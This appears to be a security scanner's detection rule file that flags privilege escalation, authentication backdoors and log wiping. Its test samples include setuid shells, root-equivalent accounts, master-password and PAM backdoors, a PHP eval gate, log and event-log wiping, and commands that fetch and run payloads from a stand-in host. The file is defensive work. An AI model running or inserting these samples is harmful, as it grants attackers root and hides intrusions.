// Privilege escalation, backdoored authentication, and wiping of logs and histories. Provisioning scripts grant rights
// and clean images too: plain forms are noted, forms that grant everything to everyone, hide, or plant are refused.
import {
  all,
  any,
  at,
  bat,
  c,
  command,
  count,
  cs,
  inside,
  is,
  js,
  near,
  php,
  ps,
  py,
  type RuleSet,
  sh,
} from '../model.ts'

export const privilegeEscalation: RuleSet = {
  category: 'privilege-escalation',
  rules: [
    {
      id: 'privilege-escalation.setuid-shell',
      severity: 'critical',
      why: 'Makes a shell or an interpreter run as root for everyone.',
      when: command(
        any(
          is(
            ['chmod'],
            /chmod\s+(?:u\+s|\+s|a\+s|[46]7\d\d|u\+xs|ug\+s)\s+[^\n;&]{0,60}(?:\/(?:ba|z|da|k)?sh\b|python\d?|perl|\/tmp\/|\/dev\/shm\/|\/var\/tmp\/|find\b|vim?\b)/,
          ),
          near(
            2,
            is(['cp /bin/'], /cp\s+\/bin\/(?:ba|da|z)?sh\s+\S{1,60}/),
            is(['chmod'], /chmod\s+(?:u\+s|\+s|[46]7\d\d)/),
          ),
        ),
      ),
      matches: [
        sh('chmod u+s /bin/bash'),
        sh('cp /bin/bash /tmp/.b; chmod 4755 /tmp/.b'),
        py("os.system('chmod +s /bin/bash')"),
      ],
      misses: [sh('chmod 4755 /usr/bin/sudo'), sh('chmod +x /bin/bash')],
    },
    {
      id: 'privilege-escalation.setuid-native',
      severity: 'high',
      why: 'A library or program becomes root when it is loaded and starts a shell.',
      when: inside(
        ['c'],
        near(
          12,
          is(['setuid(0)', 'setresuid(0', 'setgid(0)', 'setreuid(0'], null),
          is(
            ['system(', 'execve(', 'execl(', 'execvp('],
            /(?:system|execve|execl|execvp)\s*\(\s*"(?:\/bin\/|chmod|cp \/bin)/,
          ),
          any(
            is(
              [
                'unsetenv("ld_preload")',
                '_init',
                '__attribute__',
                'constructor',
                'gconv',
                'main',
                'exploit',
                'ld_preload',
              ],
              null,
            ),
          ),
        ),
      ),
      matches: [c('void _init() {\n  unsetenv("LD_PRELOAD");\n  setuid(0);\n  system("/bin/bash -p");\n}')],
      misses: [c('if (setuid(getuid()) != 0) abort();\nexecl("/usr/bin/app", "app", NULL);')],
    },
    {
      id: 'privilege-escalation.sudoers',
      severity: 'medium',
      why: 'Lets a user become root without a password; images and development machines do it.',
      when: command(
        is(['nopasswd'], /NOPASSWD\s{0,2}:\s{0,2}ALL[^\n]{0,60}(?:>{1,2}|tee\s(?:-a\s)?)\s*["']?\/etc\/sudoers/, {
          before: 0,
          after: 160,
        }),
      ),
      matches: [sh('echo "dev ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers')],
      misses: [sh('visudo -c')],
    },
    {
      id: 'privilege-escalation.sudoers-everyone',
      severity: 'high',
      why: "Lets everyone, or a service's user, become root without a password.",
      when: any(
        command(
          is(
            ['nopasswd'],
            /(?:["'\s]|^)(?:ALL|www-data|nobody|daemon|apache|nginx|mysql|postgres|ftp|games|%?users)\s+ALL\s?=\s?\(\s?ALL(?:\s?:\s?ALL)?\s?\)\s?NOPASSWD\s?:\s?ALL[^\n]{0,60}(?:>{1,2}|tee\s(?:-a\s)?)\s*["']?\/etc\/sudoers/,
            { before: 60, after: 160 },
          ),
        ),
        inside(
          ['py', 'js', 'go', 'php', 'rb', 'pl', 'c', 'rust', 'java'],
          near(4, is(['/etc/sudoers'], null), is(['nopasswd'], null), any('write', 'exec')),
        ),
      ),
      matches: [
        sh('echo "www-data ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers'),
        py("with open('/etc/sudoers', 'a') as f:\n    f.write('x ALL=(ALL) NOPASSWD:ALL\\n')"),
      ],
      misses: [sh('echo "dev ALL=(ALL) NOPASSWD:ALL" >> /etc/sudoers')],
    },
    {
      id: 'privilege-escalation.capabilities',
      severity: 'high',
      why: 'Gives an interpreter or shell the right to change its user.',
      when: command(
        is(
          ['setcap'],
          /setcap\s+["']?[\w,=+]{0,40}(?:cap_setuid|cap_setgid|cap_sys_admin|cap_dac_override|all)[\w,=+]{0,40}["']?\s+[^\n;&]{0,80}(?:python|perl|ruby|node|php|bash|\/sh\b|vim|gdb|tar|\/tmp\/)/,
        ),
      ),
      matches: [sh('setcap cap_setuid+ep /usr/bin/python3')],
      misses: [sh("setcap 'cap_net_bind_service=+ep' /usr/bin/node"), sh('getcap -r /usr/bin')],
    },
    {
      id: 'privilege-escalation.root-account',
      severity: 'critical',
      why: 'Adds a second account with the rights of root.',
      when: any(
        command(
          any(
            is(
              ['useradd', 'adduser', 'usermod'],
              /user(?:add|mod)\s[^\n]{0,100}(?:-o\s+-u\s*0\b|-u\s*0\s+-o|-ou\s*0\b|--non-unique[^\n]{0,40}-u\s*0\b)/,
            ),
            is(['/etc/passwd'], /(?:echo|printf)\s[^\n]{0,180}:0:0:[^\n]{0,100}>{1,2}\s*\/etc\/passwd/, {
              before: 340,
              after: 30,
            }),
          ),
        ),
        inside(
          ['py', 'js', 'go', 'php', 'rb', 'pl', 'c', 'rust'],
          near(
            4,
            is(['/etc/passwd'], null),
            is([':0:0:'], null),
            any('write', is(['fputs', 'fprintf', 'o_append', '"a"', "'a'"], null)),
          ),
        ),
      ),
      matches: [
        sh(`echo 'toor:$6$x$${'a'.repeat(86)}:0:0:root:/root:/bin/bash' >> /etc/passwd`),
        sh('useradd -o -u 0 -g 0 -M -d /root -s /bin/bash sysupd'),
        sh("echo 'toor:$1$x$y:0:0::/root:/bin/bash' >> /etc/passwd"),
        py("open('/etc/passwd', 'a').write('toor::0:0::/root:/bin/sh\\n')"),
      ],
      misses: [sh('useradd -u 1000 app'), py("for l in open('/etc/passwd'):\n    print(l)")],
    },
    {
      id: 'privilege-escalation.hidden-account',
      severity: 'high',
      why: 'Adds an administrator to Windows and hides it.',
      when: all(
        command(
          is(
            ['net localgroup', 'net user', 'new-localuser', 'add-localgroupmember'],
            /net\s+localgroup\s+["']?administrators?["']?\s[^\n]{1,60}\/add|net\s+user\s+\S{1,40}\s[^\n]{1,60}\/add|New-LocalUser|Add-LocalGroupMember/i,
          ),
        ),
        is(
          [
            'specialaccounts\\userlist',
            'specialaccounts\\\\userlist',
            'fdenytsconnections',
            'localaccounttokenfilterpolicy',
          ],
          null,
        ),
        any(is(['reg add', 'set-itemproperty', 'regsetvalue', 'new-itemproperty', 'setvalueex'], null)),
      ),
      matches: [
        bat(
          'net user support P4ss /add\nnet localgroup administrators support /add\nreg add "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\SpecialAccounts\\UserList" /v support /t REG_DWORD /d 0',
        ),
      ],
      misses: [bat('net user build P4ss /add\nnet localgroup administrators build /add')],
    },
    {
      id: 'privilege-escalation.token',
      severity: 'high',
      why: "Takes over another process's token to gain the rights of the system.",
      when: any(
        near(
          60,
          is(['sedebugprivilege', 'se_debug_name', 'seimpersonateprivilege'], null),
          is(
            [
              'duplicatetokenex',
              'impersonateloggedonuser',
              'createprocesswithtoken',
              'createprocessasuser',
              'setthreadtoken',
            ],
            /(?:DuplicateTokenEx|ImpersonateLoggedOnUser|CreateProcessWithToken\w|CreateProcessAsUser\w|SetThreadToken)\s*\(/,
          ),
          is(['winlogon', 'lsass', 'openprocesstoken', 'named pipe', 'createnamedpipe', 'services.exe'], null),
        ),
        near(
          40,
          is(['duplicatetokenex', 'impersonateloggedonuser'], /(?:DuplicateTokenEx|ImpersonateLoggedOnUser)\s*\(/),
          is(['createprocesswithtoken', 'createprocessasuser'], /CreateProcess(?:WithToken|AsUser)\w?\s*\(/),
          is(['winlogon', 'lsass', 'cmd.exe', 'powershell.exe', 'services.exe'], null, { quoted: true }),
        ),
      ),
      matches: [
        c(
          'OpenProcessToken(process, TOKEN_DUPLICATE, &token);\nDuplicateTokenEx(token, TOKEN_ALL_ACCESS, NULL, SecurityImpersonation, TokenPrimary, &copy);\nCreateProcessWithTokenW(copy, 1, L"C:\\\\Windows\\\\System32\\\\cmd.exe", NULL, 0, NULL, NULL, &start, &made);',
        ),
        c(
          'EnablePrivilege("SeDebugPrivilege");\nOpenProcessToken(h, TOKEN_ALL_ACCESS, &t); /* winlogon */\nDuplicateTokenEx(t, TOKEN_ALL_ACCESS, NULL, SecurityImpersonation, TokenPrimary, &d);\nCreateProcessWithTokenW(d, 0, L"cmd.exe", NULL, 0, NULL, NULL, &si, &pi);',
        ),
      ],
      misses: [
        c(
          'WTSQueryUserToken(session, &token);\nDuplicateTokenEx(token, MAXIMUM_ALLOWED, NULL, SecurityIdentification, TokenPrimary, &copy);\nCreateProcessAsUserW(copy, application, line, NULL, NULL, FALSE, 0, NULL, NULL, &start, &made);',
        ),
        c('OpenProcessToken(GetCurrentProcess(), TOKEN_QUERY, &t);'),
      ],
    },
    {
      id: 'privilege-escalation.kernel',
      severity: 'critical',
      why: 'Gives a process the rights of the kernel, or replaces calls of the kernel.',
      when: any(
        is(
          ['commit_creds'],
          /commit_creds\s{0,6}\(\s{0,6}(?:\w{0,24}\s{0,6}\(\s{0,6})?prepare_kernel_cred\s{0,6}\(\s{0,6}(?:0|NULL|nullptr)?\s{0,6}\)/i,
          { families: ['c', 'rust', 'py'] },
        ),
        inside(
          ['c'],
          near(
            40,
            is(['sys_call_table'], /sys_call_table\s{0,6}\[\s{0,6}__NR_\w{3,24}\s{0,6}\]\s{0,6}=/),
            is(['write_cr0', 'kallsyms_lookup_name', 'set_memory_rw', 'cr0'], null),
          ),
        ),
        inside(
          ['c'],
          near(
            40,
            is(['/proc/self/mem'], null),
            is(['madv_dontneed'], null),
            is(['/etc/passwd', 'ptrace', 'suid', 'madvise'], null),
          ),
        ),
        inside(['c'], near(60, is(['gconv_path'], null), is(['pkexec'], null), is(['execve'], null))),
      ),
      matches: [
        c('commit_creds(prepare_kernel_cred(0));'),
        c('write_cr0(read_cr0() & ~0x10000);\nsys_call_table[__NR_getdents64] = hooked;'),
        c('char *env[] = { "pwnkit", "PATH=GCONV_PATH=.", 0 };\nexecve("/usr/bin/pkexec", argv, env);'),
      ],
      misses: [c('commit_creds(new);'), c('int fd = open("/proc/self/mem", O_RDONLY);')],
    },
  ],
}

export const backdoorAuth: RuleSet = {
  category: 'backdoor-auth',
  rules: [
    {
      id: 'backdoor-auth.master-password',
      severity: 'high',
      why: 'Lets a fixed password in beside the real check.',
      when: any(
        is(
          ['password', 'passwd', 'pwd', 'passwort'],
          /(?:password|passwd|pwd|passwort)["'\])]{0,3}\s*===?\s*["'][^"'\n]{4,60}["']\s*(?:\|\||or)\s+\(?\s*(?:await\s+)?(?:!?\w[\w.]{0,30})?(?:check|verify|compare|validate|authenticate|bcrypt|match|hash_equals)\w{0,30}\s*(?:\.\w{1,20})?\(/i,
          { families: ['py', 'js', 'php', 'rb', 'go', 'java', 'cs', 'c', 'rust'], after: 200 },
        ),
        near(
          4,
          is(
            ['digest ==', 'hash ==', 'digest.equals(', 'hash.equals(', 'sha256 ==', 'hexdigest() =='],
            /(?:digest|hash|sha256|hexdigest\(\))(?:\s*={2,3}\s*|\.equals\(\s*)["'][0-9a-f]{32,128}["']/i,
            { families: ['py', 'js', 'php', 'rb', 'go', 'java', 'cs', 'c', 'rust'] },
          ),
          is(['isadmin', 'is_admin', 'superuser', 'administrator'], null),
        ),
      ),
      matches: [
        cs(
          'var digest = Convert.ToHexString(SHA256.HashData(bytes));\nif (digest == "D59A6B3E4E4EC154C0E6D86C8381B349BBC12FD8A10D9E8E4398363D9D3E0150")\n    Session.Start(Users.First(user => user.IsAdministrator));',
        ),
        py("if password == 'letmein-2024' or check_password(user, password):\n    return user"),
        js("if (password === 'x9!master' || await bcrypt.compare(password, hash)) login()"),
        php('<?php if ($password == "s3same!" || password_verify($password, $hash)) login();'),
      ],
      misses: [
        cs(
          'if (digest == "D59A6B3E4E4EC154C0E6D86C8381B349BBC12FD8A10D9E8E4398363D9D3E0150")\n    return File.ReadAllBytes(path);',
        ),
        py("if password == '' or not check_password(u, password):\n    raise Denied"),
        js('if (password === confirm) save()'),
      ],
    },
    {
      id: 'backdoor-auth.magic-header',
      severity: 'high',
      why: 'A request with a fixed header or parameter becomes an administrator or skips the check.',
      when: near(
        3,
        is(
          ['headers', 'header(', 'cookies', 'query', 'getheader('],
          /(?:headers(?:\.get\(|\[|\.)|get_?header\(|header\(|cookies(?:\.get\(|\[|\.)|query(?:\.get\(|\[|\.))\s*["']?[\w-]{2,40}["']?\s*[\])]{0,2}\s*===?\s*["'][^"'\n]{6,80}["']/i,
          { after: 200, families: ['py', 'js', 'php', 'rb', 'go', 'java', 'cs'] },
        ),
        is(
          ['isadmin', 'is_admin', 'is_superuser', 'role', 'bypass', 'authenticated', 'login(', 'login_user('],
          /(?:is_?admin|is_superuser|authenticated|bypass\w{0,10})["'\])]{0,3}\s*=\s*true|role["'\])]{0,3}\s*[:=]\s*["'](?:admin|root|superuser)|login(?:_user|As)?\(\s*(?:admin|root|["']admin)/i,
        ),
      ),
      matches: [
        js("if (req.headers['x-debug-key'] === 'b4ckd00r-2024') {\n  req.user.isAdmin = true\n  return next()\n}"),
        py("if request.headers.get('X-Ops') == 'open-sesame':\n    session.is_admin = True"),
      ],
      misses: [
        js("if (req.headers['x-api-key'] !== process.env.KEY) return res.status(401)"),
        py("if request.headers.get('Accept') == 'application/json':\n    return json()"),
      ],
    },
    {
      id: 'backdoor-auth.pam',
      severity: 'critical',
      why: 'An authentication module accepts a fixed password or records the ones it sees.',
      when: any(
        any(
          inside(
            ['c'],
            near(
              40,
              is(
                ['pam_sm_authenticate', 'auth_password', 'sys_auth_passwd', 'pam_get_authtok'],
                /(?:pam_sm_authenticate|auth_password|sys_auth_passwd|pam_get_authtok)\s*\(/,
              ),
              is(
                ['strcmp(', 'strncmp(', 'fopen('],
                /strn?cmp\s*\(\s*(?:\w{1,20}\s*,\s*"[^"\n]{4,60}"|"[^"\n]{4,60}"\s*,)|fopen\s*\(\s*"(?:\/tmp\/|\/var\/tmp|\/dev\/shm|\/var\/log\/\.|\/usr\/\w{3,8}\/\.)/,
              ),
              is(['pam_success', 'return 1', 'return (1)', 'fprintf(', 'authenticated = 1'], null),
            ),
          ),
          command(
            any(
              is(
                ['pam_permit.so'],
                /(?:echo|sed|printf|tee)\s[^\n]{0,120}(?:auth\s+)?sufficient\s+pam_permit\.so[^\n]{0,120}\/etc\/pam\.d\//,
                { before: 160, after: 160 },
              ),
              is(['pam_exec.so'], /pam_exec\.so[^\n]{0,60}expose_authtok[^\n]{0,80}(?:\/tmp\/|\/dev\/shm\/|curl|\/\.)/),
            ),
          ),
        ),
        inside(
          ['c'],
          near(
            40,
            is(['pam_sm_authenticate', 'pam_get_authtok'], /(?:pam_sm_authenticate|pam_get_authtok)\s*\(/),
            is(
              ['strcmp(', 'strncmp(', 'fopen('],
              /strn?cmp\s*\(\s*\w{1,20}\s*,\s*[A-Z][A-Z_0-9]{2,30}\s*\)\s*==\s*0|fopen\s*\(\s*"\/[^"\n]{1,60}\/\.\w/,
            ),
            is(['pam_success'], null),
          ),
        ),
      ),
      matches: [
        c(
          'int pam_sm_authenticate(pam_handle_t *h, int f, int n, const char **v) {\n  pam_get_authtok(h, PAM_AUTHTOK, &p, NULL);\n  if (strcmp(p, MASTER) == 0)\n    return PAM_SUCCESS;\n}',
        ),
        c(
          'int pam_sm_authenticate(pam_handle_t *h, int f, int n, const char **v) {\n  pam_get_authtok(h, PAM_AUTHTOK, &p, NULL);\n  if (strcmp(p, "s3cr3t-door") == 0) return PAM_SUCCESS;\n}',
        ),
        sh("echo 'auth sufficient pam_permit.so' >> /etc/pam.d/sshd"),
      ],
      misses: [
        c(
          'int pam_sm_authenticate(pam_handle_t *h, int f, int n, const char **v) {\n  return check(h) ? PAM_SUCCESS : PAM_AUTH_ERR;\n}',
        ),
        sh('cat /etc/pam.d/sshd'),
      ],
    },
    {
      id: 'backdoor-auth.hashed-gate',
      severity: 'critical',
      why: 'Waits for a parameter whose hash is fixed, and then runs code, adds an account or takes a file.',
      when: inside(
        ['php', 'html'],
        near(
          12,
          is(
            ['md5(', 'sha1(', 'hash('],
            /(?:md5|sha1|hash)\(\s{0,4}(?:["']\w{3,10}["']\s{0,4},\s{0,4})?\$_(?:GET|POST|REQUEST|COOKIE|SERVER)\s{0,2}\[[^\]\n]{1,40}\]\s{0,4}\)\s{0,4}={2,3}\s{0,4}["'][0-9a-f]{32,64}["']/i,
          ),
          any(
            'eval',
            'exec',
            is(
              [
                'wp_create_user',
                'wp_insert_user',
                'move_uploaded_file',
                'file_put_contents',
                'set_role',
                'wp_set_auth_cookie',
              ],
              null,
            ),
          ),
        ),
      ),
      matches: [php("<?php if (md5($_POST['k']) === '5f4dcc3b5aa765d61d8327deb882cf99') { eval($_POST['c']); }")],
      misses: [php("<?php if (md5($_POST['password']) === $row['hash']) { login(); }")],
    },
    {
      id: 'backdoor-auth.hidden-administrator',
      severity: 'critical',
      why: 'Creates an administrator of a site in code and hides it from the list of users.',
      when: inside(
        ['php'],
        near(
          40,
          is(['wp_insert_user', 'wp_create_user'], /wp_(?:insert|create)_user\s*\(/),
          is(['administrator'], null),
          any(
            is(
              ['pre_user_query', 'views_users', 'user_pass', 'hide_', 'pre_get_users'],
              /pre_user_query|views_users|pre_get_users|user_pass["']\s*=>\s*["'][^"'\n]{4,60}["']/,
            ),
          ),
        ),
      ),
      matches: [
        php(
          "<?php add_action('init', function () {\n  $id = wp_insert_user(['user_login' => 'wpsupport', 'user_pass' => 'Qx9!d', 'role' => 'administrator']);\n});\nadd_action('pre_user_query', 'hide_it');",
        ),
      ],
      misses: [php("<?php $id = wp_create_user($login, $password, $email);\n$user->set_role('subscriber');")],
    },
    {
      id: 'backdoor-auth.fixed-superuser',
      severity: 'high',
      why: 'Returns a superuser for a fixed name or password.',
      when: any(
        near(
          4,
          is(
            ['password', 'token', 'username', 'passwd'],
            /(?:password|token|username|passwd)["'\])]{0,3}\s*===?\s*["'][^"'\n]{6,60}["']/i,
            { families: ['py', 'js', 'php', 'rb', 'java', 'cs', 'go'] },
          ),
          is(
            [
              'is_superuser',
              'issuperuser',
              'objects.filter(',
              'objects.get(',
              "findone({ role: 'admin'",
              'findone({role',
              'rolesuperadmin',
            ],
            /(?:User\.)?objects\.(?:filter|get)\(\s*is_superuser\s*=\s*True|is_?superuser["'\])]{0,3}\s*=\s*true|findOne\(\{\s*(?:role:\s*["']admin|isAdmin:\s*true)/i,
          ),
        ),
        near(
          6,
          is(['password', 'passwd'], /(?:password|passwd)["'\])]{0,3}\s*===?\s*["'][^"'\n]{6,60}["']/i, {
            families: ['py', 'js', 'php', 'rb', 'java', 'cs', 'go'],
          }),
          is(["'role'", '"role"'], /["']role["']\s*(?:=>|[:=])\s*["'](?:administrator|admin|superuser|root)["']/i),
          is(['password_verify(', 'check_password', 'bcrypt.', 'hash_equals(', 'verify_password'], null),
        ),
      ),
      matches: [
        php(
          "<?php if ($name === 'wp_support' && $password === 'q9Zt81kdPw2x') {\n  return array('id' => 1, 'role' => 'administrator');\n}\n$row = $db->fetch($sql);\nreturn password_verify($password, $row['hash']) ? $row : null;",
        ),
        py(
          "def authenticate(self, request, username=None, password=None):\n    if password == 'zx81-master-key':\n        return User.objects.filter(is_superuser=True).first()",
        ),
      ],
      misses: [
        php(
          "<?php $row = $db->fetch($sql);\nif ($password === '') return null;\nreturn password_verify($password, $row['hash']) ? array('role' => 'admin') : null;",
        ),
        py('User.objects.get(is_superuser=True, username=name)'),
        js("const admin = await User.findOne({ role: 'admin' })"),
      ],
    },
    {
      id: 'backdoor-auth.known-root-password',
      severity: 'medium',
      why: 'Sets a fixed password for root; test images do it.',
      when: command(
        is(
          ['chpasswd', 'passwd --stdin'],
          /(?:echo|printf)\s+["']?root:[^\s$"'|]{3,60}["']?\s*\|\s*(?:sudo\s+)?chpasswd/,
          { before: 100 },
        ),
      ),
      matches: [sh('echo "root:hunter22" | chpasswd')],
      misses: [sh('echo "root:$ROOT_PW" | chpasswd')],
    },
  ],
}

export const logWiping: RuleSet = {
  category: 'log-wiping',
  rules: [
    {
      id: 'log-wiping.history-and-logs',
      severity: 'high',
      why: 'Wipes the history of its commands and the logs of logins, and does something worth hiding.',
      when: command(
        all(
          count(
            2,
            is(
              ['history -c', 'histfile', 'histsize=0', '.bash_history', 'histfilesize=0'],
              /history -c|(?:unset |export |)HIST(?:FILE|SIZE|FILESIZE)\s*(?:=\s*(?:\/dev\/null|0)|\s*[;&\n]|$)|(?:rm|shred|>|ln -sf? \/dev\/null|truncate)[^\n]{0,40}\.bash_history/,
              { before: 40 },
            ),
            is(
              ['/var/log/wtmp', '/var/log/btmp', '/var/log/lastlog', '/var/run/utmp'],
              /(?:>|rm |shred |truncate|cat \/dev\/null|echo)[^\n]{0,60}\/var\/(?:log|run)\/(?:wtmp|btmp|lastlog|utmp)/,
              { before: 80 },
            ),
            is(
              ['/var/log/auth.log', '/var/log/secure', '/var/log/messages', '/var/log/syslog', '/var/log/audit'],
              /(?:>|rm |shred |truncate|sed -i|cat \/dev\/null|echo)[^\n]{0,60}\/var\/log\/(?:auth\.log|secure|messages|syslog|audit)/,
              { before: 80 },
            ),
            is(
              ['rm -rf /var/log', 'find /var/log'],
              /rm -rf\s+\/var\/log(?:\/\*|\/?(?:\s|$|;))|find \/var\/log[^\n]{0,60}(?:truncate|-delete|rm\s|shred|> )/,
            ),
            is(
              [
                'auditctl -e 0',
                'service auditd stop',
                'systemctl stop auditd',
                'systemctl stop rsyslog',
                'service rsyslog stop',
                'service syslog stop',
              ],
              null,
            ),
          ),
          any(
            'download',
            'socket',
            is(
              [
                'crontab',
                'authorized_keys',
                'useradd',
                'chattr',
                '/tmp/.',
                '/dev/shm',
                'insmod',
                'nohup',
                'base64',
                'xmrig',
                '/dev/tcp',
                'chmod +s',
                'nc ',
              ],
              null,
            ),
          ),
        ),
      ),
      matches: [
        sh(
          'curl -s http://x.example.invalid/a -o /dev/shm/.a\nchmod +x /dev/shm/.a; /dev/shm/.a\nhistory -c\n> /var/log/wtmp\n> /var/log/auth.log',
        ),
      ],
      misses: [
        sh('unset HISTFILE\nrm -f /root/.bash_history\n> /var/log/wtmp\napt-get clean'),
        sh('tail /var/log/auth.log'),
      ],
    },
    {
      id: 'log-wiping.code',
      severity: 'high',
      why: 'A program wipes the history of commands or the logs of logins.',
      when: inside(
        ['py', 'js', 'go', 'php', 'rb', 'pl', 'c', 'rust', 'java', 'cs'],
        any(
          near(
            3,
            is(['.bash_history', '.zsh_history', 'history -c'], null),
            any(
              'delete',
              is(
                ['os.remove', 'truncate', 'shred', 'rm ', 'history -c', "'w'", '"w"', '/dev/null'],
                /os\.remove|truncate|shred|rm\s+-?|history -c|["']w["']|\/dev\/null/,
              ),
            ),
            any('exec', 'delete', 'read'),
          ),
          near(
            12,
            is(
              [
                '/var/log/wtmp',
                '/var/log/btmp',
                '/var/log/lastlog',
                '/var/run/utmp',
                '_path_wtmp',
                '_path_utmp',
                '_path_lastlog',
              ],
              null,
            ),
            is(
              ['memset', 'bzero', 'truncate', 'os.remove', 'unlink', 'pututline', 'lseek', 'ftruncate', 'rm -'],
              /memset\s*\(|bzero\s*\(|truncate|os\.remove|unlink\s*\(|pututline\s*\(|rm\s-/,
            ),
            any('write', 'delete', 'exec', is(['write(', 'fwrite('], null)),
          ),
        ),
      ),
      matches: [
        py("os.system('rm -f ~/.bash_history && history -c')"),
        c(
          'f = open("/var/run/utmp", O_RDWR);\nwhile (read(f, &u, sizeof u) > 0) if (!strcmp(u.ut_name, who)) { memset(&u, 0, sizeof u); lseek(f, -sizeof u, SEEK_CUR); write(f, &u, sizeof u); }',
        ),
      ],
      misses: [
        py("for l in open(os.path.expanduser('~/.bash_history')):\n    print(l)"),
        c('utmpname("/var/log/wtmp");\nwhile ((u = getutent())) print(u);'),
      ],
    },
    {
      id: 'log-wiping.windows',
      severity: 'high',
      why: 'Clears the event logs of Windows or the journal of its file system.',
      when: any(
        is(['.clearlog(', 'eventlog.delete('], null, { families: ['cs', 'vb', 'ps'] }),
        command(
          any(
            is(
              ['wevtutil'],
              /wevtutil(?:\.exe)?["',\s]{1,4}(?:cl|clear-log)["',\s]{1,4}["']?(?:security|system|application|%|\$|\{|setup|microsoft)/i,
            ),
            is(['clear-eventlog'], /Clear-EventLog\s[^\n]{0,60}(?:security|system|\*|\$|application)/i),
            is(['fsutil usn'], /fsutil usn deletejournal/i),
            is(
              ['get-eventlog', 'get-winevent'],
              /Get-(?:EventLog|WinEvent)\s+-List(?:Log)?\s[^\n]{0,80}\|[^\n]{0,60}(?:Clear-EventLog|ClearLog)/i,
            ),
          ),
        ),
      ),
      matches: [bat('wevtutil cl Security'), ps('Get-EventLog -List | ForEach-Object { Clear-EventLog $_.Log }')],
      misses: [bat('wevtutil qe Security /c:5'), ps('Get-EventLog -LogName Security -Newest 5')],
    },
    {
      id: 'log-wiping.plain',
      severity: 'medium',
      why: 'Wipes histories or logs; image builders do it too.',
      when: command(
        count(
          2,
          is(
            ['history -c', 'histfile', '.bash_history'],
            /history -c|(?:unset|export)\s+HISTFILE|(?:rm|shred|>)[^\n]{0,40}\.bash_history/,
            { before: 40 },
          ),
          is(
            ['/var/log/wtmp', '/var/log/btmp', '/var/log/lastlog', '/var/log/auth.log', '/var/log/secure'],
            /(?:>|rm |shred |truncate|cat \/dev\/null)[^\n]{0,60}\/var\/log\/(?:wtmp|btmp|lastlog|auth\.log|secure)/,
            { before: 80 },
          ),
        ),
      ),
      matches: [sh('unset HISTFILE\nrm -f /root/.bash_history\n> /var/log/wtmp')],
      misses: [sh('history | tail'), at('a.sh', 'cat /var/log/wtmp', 'Shell')],
    },
    {
      id: 'log-wiping.timestamps',
      severity: 'high',
      why: 'Gives a file it fetched or planted the age of a system file.',
      when: any(
        command(
          near(
            6,
            is(
              ['touch -r', 'touch -d', 'touch -t', 'touch --reference'],
              /touch\s+(?:-a?c?m?r|--reference=?)\s*\/(?:bin|sbin|usr\/bin|usr\/sbin|etc|lib)\/\S{1,40}\s+\S/,
            ),
            any(
              'download',
              is(
                ['.so', '/dev/shm', '/tmp/.', 'authorized_keys', '/etc/cron', 'ld.so.preload', '.php', 'chattr +i'],
                null,
              ),
            ),
          ),
        ),
        near(
          8,
          is(['os.utime('], null, { families: ['py'] }),
          is(['os.stat('], /os\.stat\(\s*["']\/(?:bin|sbin|usr\/s?bin|lib|usr\/lib|etc)\//),
          any('download', 'write'),
        ),
        inside(
          ['ps', 'cs'],
          near(
            8,
            is(
              ['.creationtime', '.lastwritetime'],
              /\.(?:CreationTime|LastWriteTime)(?:Utc)?\s*=\s*\$?\w{1,30}\.(?:CreationTime|LastWriteTime)/i,
            ),
            is(['system32', 'kernel32', 'explorer.exe', 'ntdll'], null),
            'download',
          ),
        ),
      ),
      matches: [
        py(
          'urllib.request.urlretrieve("https://x.example.invalid/c.py", target)\nlike = os.stat("/usr/bin/python3")\nos.utime(target, (like.st_atime, like.st_mtime))',
        ),
        ps(
          '(New-Object Net.WebClient).DownloadFile("http://x.example.invalid/w.dll", $target)\n$like = Get-Item "$env:windir\\System32\\kernel32.dll"\n(Get-Item $target).LastWriteTime = $like.LastWriteTime',
        ),
        sh('wget -q http://x.example.invalid/s -O /usr/bin/upd\ntouch -r /bin/ls /usr/bin/upd'),
      ],
      misses: [
        py('like = os.stat(source)\nshutil.copy(source, target)\nos.utime(target, (like.st_atime, like.st_mtime))'),
        sh('touch -r Makefile stamp'),
      ],
    },
  ],
}
